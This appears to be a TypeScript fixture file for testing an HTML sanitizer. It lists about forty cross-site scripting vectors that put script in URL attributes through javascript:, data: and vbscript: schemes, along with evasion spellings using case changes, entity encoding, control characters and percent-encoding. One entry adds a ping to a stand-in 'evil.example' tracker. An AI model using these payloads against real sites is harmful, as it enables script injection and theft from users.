/**
 * Script in an address: javascript:, data: and vbscript: in every attribute that takes a URL, and the
 * spellings a naive prefix check misses (case, white space, control characters, entities in every
 * form, percent-encoding of the body, which the browser decodes before it runs it).
 */
import { attacks, base64, entities, percent } from './trap.js';

const link = (href: string) => `<a href="${href}">click me</a>`;

export const URL_SCHEMES = attacks({
  'js-link': (run) => link(`javascript:${run}`),
  'js-link-case': (run) => link(`JaVaScRiPt:${run}`),
  'js-link-spaces': (run) => link(`  javascript:${run}`),
  'js-link-tab': (run) => link(`java&#x09;script:${run}`),
  'js-link-newline': (run) => link(`java&#x0A;script:${run}`),
  'js-link-cr': (run) => link(`java&#13;script:${run}`),
  'js-link-entity': (run) => link(`&#106;avascript:${run}`),
  'js-link-all-entities': (run) => link(entities(`javascript:${run}`)),
  'js-link-padded-decimal': (run) => link(`&#0000106&#0000097&#0000118&#0000097script:${run}`),
  'js-link-no-semicolons': (run) => link(`&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`),
  'js-link-named-colon': (run) => link(`javascript&colon;${run}`),
  'js-link-named-tab': (run) => link(`java&Tab;script&NewLine;:${run}`),
  'js-link-control-prefix': (run) => link(`&#x01;&#x1F;javascript:${run}`),
  'js-link-percent-body': (run) => link(`javascript:${percent(run)}`),
  'js-link-comment': (run) => link(`javascript://example.com/%0a${run}`),
  'js-link-https-inside': (run) => link(`javascript:/*https://example.com/*/${run}`),
  'js-link-https-prefix': (run) => link(`https:javascript:${run}`),
  'js-link-duplicate-href': (run) => `<a href="https://example.com/" href="javascript:${run}">twice</a>`,
  'js-link-unquoted': (run) => `<a href=javascript:${run}>unquoted</a>`,
  'data-link': (run) => link(`data:text/html,<script>${run}</script>`),
  'data-link-base64': (run) => link(`data:text/html;base64,${base64(`<script>${run}</script>`)}`),
  'data-link-svg': (run) => link(`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`),
  'vbscript-link': () => link('vbscript:msgbox(1)'),
  'area-href': (run) => `<map name="m"><area shape="default" href="javascript:${run}"></map><img usemap="#m" src=x>`,
  'iframe-js': (run) => `<iframe src="javascript:${run}"></iframe>`,
  'iframe-srcdoc': (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'embed-js': (run) => `<embed src="javascript:${run}">`,
  'object-js': (run) => `<object data="javascript:${run}"></object>`,
  'form-action': (run) => `<form action="javascript:${run}"><input type="submit" value="go"></form>`,
  formaction: (run) => `<form><button formaction="javascript:${run}">go</button></form>`,
  'q-cite-js': (run) => `<q cite="javascript:${run}">quoted</q>`,
  'blockquote-cite-js': (run) => `<blockquote cite="javascript:${run}">quoted</blockquote>`,
  'del-cite-js': (run) => `<del cite="javascript:${run}">deleted</del>`,
  'img-srcset-js': (run) => `<img srcset="javascript:${run} 1x" src=x>`,
  'base-href': (run) => `<base href="javascript:${run}//"><a href="x">relative</a>`,
  'meta-refresh': (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'a-ping': () => `<a href="https://example.com/" ping="https://evil.example/track">pinged</a>`,
  'a-target-opener': () => `<a href="https://example.com/" target="_blank" rel="opener">opener</a>`,
});
